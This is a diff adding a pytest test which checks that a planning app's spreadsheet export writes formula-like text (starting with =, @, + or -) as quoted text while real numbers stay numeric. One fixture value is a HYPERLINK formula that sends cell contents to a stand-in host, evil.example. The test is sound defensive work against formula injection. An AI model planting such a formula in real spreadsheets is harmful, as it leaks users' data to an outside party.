@@ -50,3 +50,25 @@ def test_the_export_follows_the_review_date(progress, client, people):
 def test_the_export_is_scoped(progress, client, people):
     _, by_name, _, _ = read_back(client, people["yuanlin"])
     assert set(by_name) == {"新建公厕", "一类公厕比例", "人行道积尘", "老旧小区整治比例"}
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text_and_numbers_stay_numbers(progress, client, people):
+    from jingzhi.plans.models import Indicator, Task
+
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&B2,"详情")'
+    Task.objects.filter(number="1").update(title=hyperlink)
+    Indicator.objects.filter(code="toilets").update(name="=1+2", unit="@SUM(A1)")
+    Indicator.objects.filter(code="dust").update(name="-人行道积尘", target=-15)
+    progress.title = "+工作方案"
+    progress.save()
+    _, by_name, _, book = read_back(client, people["leader"])
+    sheet = book.worksheets[0]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[2].value == "=1+2")
+    for cell, written in ((row[1], hyperlink), (row[2], "=1+2"), (row[3], "@SUM(A1)")):
+        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", written, True)
+    assert (row[5].data_type, row[5].value, row[5].quotePrefix) == ("n", 1210, False)
+    dust = next(r for r in sheet.iter_rows(min_row=2) if r[2].value == "-人行道积尘")
+    assert dust[2].data_type == "s" and dust[2].quotePrefix
+    assert (dust[5].data_type, dust[5].value) == ("n", -15)  # a negative figure is a number, not text
+    assert (book.worksheets[1]["B1"].data_type, book.worksheets[1]["B1"].value) == ("s", "+工作方案")
+    assert not any(cell.data_type == "f" for ws in book.worksheets for r in ws.iter_rows() for cell in r)
